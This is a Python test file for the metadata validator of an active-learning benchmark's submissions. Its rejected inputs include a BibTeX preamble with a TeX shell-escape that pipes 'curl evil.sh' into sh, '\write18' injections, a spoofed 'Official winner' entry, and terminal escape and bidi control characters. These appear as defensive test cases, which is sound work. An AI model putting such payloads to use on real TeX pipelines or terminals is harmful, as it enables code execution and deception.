"""submission.yaml validation: every problem is one line naming the file and field."""

from __future__ import annotations

from pathlib import Path

import pytest
from submission_factory import make_submission, metadata

from mmal_bench.errors import SubmissionError
from mmal_bench.submissions.metadata import load_metadata


def test_valid_metadata(tmp_path: Path) -> None:
    meta = load_metadata(make_submission(tmp_path, "good-one"))
    assert meta.slug == "good-one" and meta.modality == "unimodal" and meta.authors == ["A. Tester"]


def test_the_example_submission_is_valid() -> None:
    from mmal_bench.paths import REPO_ROOT

    meta = load_metadata(REPO_ROOT / "submissions" / "information-density", reserved={"random"})
    assert meta.modality == "unimodal" and meta.bibtex.startswith("@inproceedings{settles2008analysis,")


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"modality": "bimodal"}, r"field 'modality' Input should be 'unimodal' or 'multimodal'"),
        ({"authors": None}, r"field 'authors' is required"),
        ({"authors": []}, r"field 'authors' List should have at least 1 item"),
        ({"paper_url": "example.org"}, r"field 'paper_url' must be an http\(s\) URL"),
        ({"bibtex": "Settles 2008"}, r"field 'bibtex' must be one BibTeX entry"),
        ({"bibtex": "@article{x, title={unbalanced}"}, r"field 'bibtex' has unbalanced braces"),
        ({"bibtex": "@preamble{\\immediate\\write18{curl evil.sh | sh}}"}, r"field 'bibtex' must be one BibTeX entry starting like"),
        ({"bibtex": "@preamble{x} @article{k, title={T}}"}, r"field 'bibtex' must be one BibTeX entry starting like"),
        ({"bibtex": "@Preamble{x, title={T}}"}, r"field 'bibtex' entry type @preamble is not accepted"),
        ({"bibtex": "@string{me = {Rank 1}}"}, r"field 'bibtex' must be one BibTeX entry"),
        ({"bibtex": "@comment{k, title={hidden}}"}, r"field 'bibtex' entry type @comment is not accepted"),
        ({"bibtex": "@article{k, title={T}}\n@article{spoof, title={Official winner}}"}, r"field 'bibtex' must hold exactly one BibTeX entry"),
        ({"bibtex": "@article{k, title={T}} @preamble{\\write18{ls}}"}, r"field 'bibtex' must hold exactly one BibTeX entry"),
        ({"bibtex": "@article{k, title={T \\immediate\\write18{ls}}}"}, r"field 'bibtex' contains the TeX command '\\\\immediate'"),
        ({"bibtex": "@article{k, title = me # {x}}"}, r"field 'bibtex' field values must be \{braced\}"),
        ({"bibtex": "@article{k, title={A}, title={B}}"}, r"field 'bibtex' has the field 'title' twice"),
        ({"bibtex": "@article{k, author={A}}"}, r"field 'bibtex' the BibTeX entry needs a title"),
        ({"name": "Rank 1\x1b[2K"}, r"field 'name' contains the control character '\\x1b'; use plain text"),
        ({"authors": ["A\u202eB"]}, r"field 'authors' contains the control character '\\u202e'"),
        ({"bibtex": "@article{k, title={T\x1b[8m}}"}, r"field 'bibtex' contains the control character '\\x1b'"),
        ({"slug": "Bad Slug"}, r"field 'slug' must be 3-50 lowercase letters"),
        ({"licence": "MIT"}, r"field 'licence' is not a known field \(allowed: name, slug,"),
        ({"slug": "other-name"}, r"slug 'other-name' must equal the folder name 'meta-case'"),
    ],
)
def test_bad_metadata_is_one_clear_line(tmp_path: Path, overrides: dict, message: str) -> None:
    folder = make_submission(tmp_path, "meta-case", meta=metadata("meta-case", **overrides))
    with pytest.raises(SubmissionError, match=message) as info:
        load_metadata(folder)
    assert "\n" not in str(info.value) and str(folder / "submission.yaml") in str(info.value)


def test_reserved_names_missing_files_and_yaml_errors(tmp_path: Path) -> None:
    with pytest.raises(SubmissionError, match="slug 'entropy' is a built-in strategy's name"):
        load_metadata(make_submission(tmp_path, "entropy"), reserved={"entropy"})
    folder = make_submission(tmp_path, "no-code")
    (folder / "strategy.py").unlink()
    with pytest.raises(SubmissionError, match=r"strategy.py is missing; copy submissions/_template/strategy.py"):
        load_metadata(folder)
    bad = make_submission(tmp_path, "bad-yaml")
    (bad / "submission.yaml").write_text("name: [unclosed\n")
    with pytest.raises(SubmissionError, match=r"not valid YAML at line \d+"):
        load_metadata(bad)
    (bad / "submission.yaml").write_text("- a list\n")
    with pytest.raises(SubmissionError, match="must be a YAML mapping"):
        load_metadata(bad)
    (tmp_path / "empty").mkdir()
    with pytest.raises(SubmissionError, match="submission.yaml is missing; copy submissions/_template/submission.yaml"):
        load_metadata(tmp_path / "empty")
    with pytest.raises(SubmissionError, match="is not a folder"):
        load_metadata(tmp_path / "nowhere")


def test_bibtex_is_parsed_into_its_one_entry() -> None:
    from mmal_bench.submissions.metadata import parse_bibtex

    kind, key, fields = parse_bibtex('@InProceedings{settles2008,\n  title = {An {Analysis} of "Active" Learning},\n  author = "Settles, B. and Craven, M.",\n  year = 2008,\n}')
    assert (kind, key) == ("inproceedings", "settles2008")
    assert fields == {"title": 'An {Analysis} of "Active" Learning', "author": "Settles, B. and Craven, M.", "year": "2008"}
